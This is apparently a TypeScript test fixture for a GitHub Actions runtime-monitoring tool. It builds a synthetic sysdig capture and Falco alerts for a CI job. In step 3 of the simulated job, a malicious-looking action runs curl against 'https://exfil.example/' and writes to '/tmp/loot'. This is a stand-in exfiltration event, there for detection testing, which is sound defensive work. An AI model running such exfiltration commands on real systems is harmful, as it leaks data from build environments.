// A small job as the runner runs it, written with the capture writer: Runner.Worker starts each step's
// process; step 3 is `uses: evil/action@v1`, whose node process runs curl; step 4 is a `run:` script
// running curl; step 5 is our own stop, whose docker talks to the engine; sysdig runs throughout.
// With the metadata file stop would write for it, and alerts as an engine would report them.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { captureMetadataSchema, type CaptureMetadata } from '../../../src/capture/metadata.ts';
import { toFalcoAlert, type FalcoAlert } from '../../../src/falco/alert.ts';
import { parseCaptureDescription, writeCapture, type CaptureDescriptionInput } from '../../../src/scap/writer/index.ts';

export const START = '2025-06-02T09:30:00Z';
export const WORKER_PID = 500;
export const EVIL_NODE_PID = 600;
export const EVIL_CURL_PID = 601;
export const RUN_BASH_PID = 700;
export const RUN_CURL_PID = 701;
export const STOP_PID = 800;
export const STOP_DOCKER_PID = 801;
export const SYSDIG_PID = 900;
export const EVIL_REMOTE = '203.0.113.5';
export const RUN_REMOTE = '198.51.100.7';
export const OWN_REMOTE = '192.0.2.9';
const SCRIPT = '/home/runner/work/_temp/0b4d0a3e-5c1f-4b7e-9a55-0d7c2f1e6a11.sh';

const startMs = Date.parse(START);
const at = (second: number): string => new Date(startMs + second * 1000).toISOString();

export const jobDescription: CaptureDescriptionInput = {
  start: START,
  processes: [
    { pid: 1, ppid: 0, comm: 'systemd', exepath: '/usr/lib/systemd/systemd' },
    { pid: WORKER_PID, ppid: 1, comm: 'Runner.Worker', exepath: '/home/runner/actions-runner/bin/Runner.Worker', cwd: '/home/runner/work', uid: 1001, gid: 118 },
    { pid: SYSDIG_PID, ppid: 1, comm: 'sysdig', exepath: '/usr/bin/sysdig', args: ['--modern-bpf', '-w', '/capture/capture.scap'] },
  ],
  events: [
    // Step 3: uses evil/action@v1 -> node …/_actions/evil/action/v1/dist/index.js -> curl.
    { at: 1500, type: 'fork', pid: WORKER_PID, childPid: EVIL_NODE_PID },
    { at: 1501, type: 'exec', pid: EVIL_NODE_PID, exepath: '/home/runner/externals/node20/bin/node', args: ['/home/runner/work/_actions/evil/action/v1/dist/index.js'] },
    { at: 1600, type: 'fork', pid: EVIL_NODE_PID, childPid: EVIL_CURL_PID },
    { at: 1601, type: 'exec', pid: EVIL_CURL_PID, exepath: '/usr/bin/curl', args: ['-s', 'https://exfil.example/'] },
    { at: 1700, type: 'connect', pid: EVIL_CURL_PID, fd: 5, local: { ip: '10.1.0.4', port: 40001 }, remote: { ip: EVIL_REMOTE, port: 443 } },
    { at: 1710, type: 'write', pid: EVIL_CURL_PID, fd: 5, data: 'x'.repeat(200) },
    { at: 1720, type: 'read', pid: EVIL_CURL_PID, fd: 5, data: 'y'.repeat(50) },
    { at: 1800, type: 'open', pid: EVIL_CURL_PID, path: '/tmp/loot', flags: ['O_WRONLY', 'O_CREAT'] },
    // Step 4: run: -> bash -e /home/runner/work/_temp/UUID.sh -> curl.
    { at: 4500, type: 'fork', pid: WORKER_PID, childPid: RUN_BASH_PID },
    { at: 4501, type: 'exec', pid: RUN_BASH_PID, exepath: '/usr/bin/bash', args: ['-e', SCRIPT] },
    { at: 4600, type: 'fork', pid: RUN_BASH_PID, childPid: RUN_CURL_PID },
    { at: 4601, type: 'exec', pid: RUN_CURL_PID, exepath: '/usr/bin/curl', args: ['http://mirror.example/'] },
    { at: 4700, type: 'connect', pid: RUN_CURL_PID, fd: 5, local: { ip: '10.1.0.4', port: 40002 }, remote: { ip: RUN_REMOTE, port: 80 } },
    { at: 4710, type: 'write', pid: RUN_CURL_PID, fd: 5, data: 'z'.repeat(20) },
    // sysdig writes its capture all along.
    { at: 5000, type: 'open', pid: SYSDIG_PID, path: '/capture/capture.scap', flags: ['O_WRONLY', 'O_CREAT', 'O_TRUNC'] },
    // Step 5: our own stop -> docker, talking to the engine.
    { at: 7500, type: 'fork', pid: WORKER_PID, childPid: STOP_PID },
    { at: 7501, type: 'exec', pid: STOP_PID, exepath: '/home/runner/externals/node20/bin/node', args: ['/home/runner/work/_actions/owner/falco-actions/v1/stop/dist/index.js'] },
    { at: 7600, type: 'fork', pid: STOP_PID, childPid: STOP_DOCKER_PID },
    { at: 7601, type: 'exec', pid: STOP_DOCKER_PID, exepath: '/usr/bin/docker', args: ['kill', '--signal', 'TERM', 'sysdig'] },
    { at: 7700, type: 'connect', pid: STOP_DOCKER_PID, fd: 5, local: { ip: '10.1.0.4', port: 40003 }, remote: { ip: OWN_REMOTE, port: 2375 } },
  ],
};

const step = (number: number, name: string, from: number, to: number | null) => ({
  number,
  name,
  status: to === null ? 'in_progress' : 'completed',
  conclusion: to === null ? null : 'success',
  started_at: at(from).replace('.000Z', 'Z'),
  completed_at: to === null ? null : at(to).replace('.000Z', 'Z'),
});

export function jobMetadata(overrides: Partial<CaptureMetadata> = {}): CaptureMetadata {
  return captureMetadataSchema.parse({
    schema: 1,
    job: {
      key: 'build',
      name: 'build',
      id: 42,
      htmlUrl: 'https://github.com/o/r/actions/runs/1/job/42',
      repository: 'o/r',
      workflow: 'CI',
      workflowRef: 'o/r/.github/workflows/ci.yml@refs/heads/main',
      runId: '1',
      runNumber: '1',
      runAttempt: '1',
      serverUrl: 'https://github.com',
      eventName: 'push',
      ref: 'refs/heads/main',
      sha: 'a'.repeat(40),
    },
    runner: { name: 'GitHub Actions 1', os: 'Linux', arch: 'X64', workerPid: WORKER_PID, workspace: '/home/runner/work/r/r' },
    capture: {
      fileName: 'capture.scap',
      redacted: true,
      sysdigImage: 'docker.io/sysdig/sysdig:0.40.1',
      snaplen: 256,
      ignoredSyscalls: [],
      startedAt: at(-3),
      readyAt: at(-1),
      stoppedAt: at(9),
      truncated: false,
      events: 0,
      bytes: 0,
      sha256: 'b'.repeat(64),
    },
    steps: [
      step(1, 'Set up job', -10, -6),
      step(2, 'Run owner/falco-actions/start@v1', -5, 0),
      step(3, 'Run evil/action@v1', 1, 3),
      step(4, 'Run make build', 4, 6),
      step(5, 'Run owner/falco-actions/stop@v1', 7, null),
    ],
    ownProcesses: [
      { role: 'start', pid: 400, fromMs: startMs - 4000, toMs: startMs - 500 },
      { role: 'stop', pid: STOP_PID, fromMs: startMs + 7000 },
    ],
    sysdigPid: SYSDIG_PID,
    versions: { falcoActions: '0.0.0', sysdig: '0.40.1' },
    ...overrides,
  });
}

/** An alert as an engine reports it, from `pid` at `second` after the capture's start. */
export function alertFrom(pid: number, second: number, rule: string, lineNumber = 1): FalcoAlert {
  const time = at(second).replace('Z', '000000Z');
  const parsed = toFalcoAlert({ rule, priority: 'Warning', time, output: `${rule} by ${pid}`, source: 'syscall', tags: ['test'], output_fields: { 'proc.pid': pid } }, lineNumber);
  if (!parsed.ok) throw new Error(parsed.reason);
  return parsed.alert;
}

export async function writeJobCapture(dir: string, description: CaptureDescriptionInput = jobDescription): Promise<string> {
  const path = join(dir, 'job.scap');
  await writeCapture(parseCaptureDescription(description), path);
  return path;
}

export async function writeJson(dir: string, name: string, value: unknown): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, typeof value === 'string' ? value : JSON.stringify(value));
  return path;
}
